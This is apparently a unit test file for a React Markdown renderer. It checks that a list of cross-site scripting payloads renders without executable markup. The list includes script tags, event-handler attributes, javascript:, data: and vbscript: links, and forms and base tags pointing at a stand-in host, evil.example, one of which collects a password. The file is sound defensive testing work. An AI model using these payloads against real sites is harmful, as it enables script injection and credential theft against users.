import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "<style>*{background:url('//evil.example')}</style>",
  "<base href='//evil.example'>",
  "<form action='//evil.example'><input name=password></form>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](x)',
  "<javascript:alert(1)>",
  '[x](/a "t\\" onmouseover=\\"alert(1)")',
];

describe("somebody's Markdown", () => {
  it.each(payloads)("runs nothing: %s", (payload) => {
    const html = renderToStaticMarkup(<Markdown>{payload}</Markdown>);
    const tags = html.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(
        /^<\/?(?:a|br|code|div|em|h[2-6]|img|li|ol|p|pre|strong|table|tbody|td|th|thead|tr|ul)\b/,
      );
      // Outside of quoted values no handler stands in a tag.
      expect(tag.replace(/"[^"]*"/g, '""')).not.toMatch(/\son\w+\s*=|\sstyle\s*=/i);
      expect(tag).not.toMatch(/(?:href|src)="\s*(?:javascript|data|vbscript):/i);
    }
  });

  it("keeps what is meant well", () => {
    const html = renderToStaticMarkup(
      <Markdown>{"# A\n\n**b** [c](https://example.com) ![d](https://example.com/d.png)"}</Markdown>,
    );
    expect(html).toContain("<h2>A</h2>");
    expect(html).toContain('<a href="https://example.com"');
    expect(html).not.toContain("<img");
  });
});
